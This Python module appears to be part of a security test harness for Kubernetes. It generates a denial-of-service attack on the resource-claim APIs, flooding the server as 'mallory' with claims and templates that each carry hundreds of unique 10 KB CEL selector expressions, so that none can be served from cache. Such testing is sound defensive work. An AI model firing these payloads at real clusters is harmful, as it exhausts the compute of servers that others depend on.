"""Attacks with expressions: compiling one is dear, and a claim may bring hundreds."""

from typing import Any

from . import wire
from .scene import NAMESPACE, Scene

_EXPRESSION_BYTES = 10 * 1024
_SELECTORS_MAX = 32
"""Of one request."""


async def many_selectors(scene: Scene) -> None:
    """A claim and a template of 270 selectors of 10 KB each, none of which was seen before; the claim
    with a field that nobody knows, where a template would have its claim."""
    path = "/apis/resource.k8s.io/{}/namespaces/" + NAMESPACE
    count = scene.of(270)
    claim = {**_spec("v1", count, "claim"), "spec": {"unknown": 1}}
    template = {"spec": _spec("v1beta1", count, "template")}
    shots = [
        wire.post(f"{path.format('v1')}/resourceclaims", {"metadata": {"generateName": "c-"}, "spec": claim}),
        wire.post(
            f"{path.format('v1beta1')}/resourceclaimtemplates",
            {"metadata": {"generateName": "t-"}, "spec": template},
        ),
    ]
    await scene.begin()
    await scene.bombard(scene.mallory, shots, connections=2, seconds=8)


def _spec(version: str, selectors: int, salt: str) -> dict[str, Any]:
    requests: list[dict[str, Any]] = []
    while selectors > 0:
        count, number = min(selectors, _SELECTORS_MAX), len(requests)
        found = [{"cel": {"expression": _expression(f"{salt}-{number}-{i}")}} for i in range(count)]
        exactly = {"deviceClassName": "c", "selectors": found}
        flat = version == "v1beta1"
        requests.append({"name": f"r{number}", **(exactly if flat else {"exactly": exactly})})
        selectors -= count
    return {"devices": {"requests": requests}}


def _expression(salt: str) -> str:
    """Unlike every other, so that none is known from before."""
    start = f'device.driver == "{salt}"'
    term = ' || device.driver == "d"'
    return start + term * ((_EXPRESSION_BYTES - len(start)) // len(term))
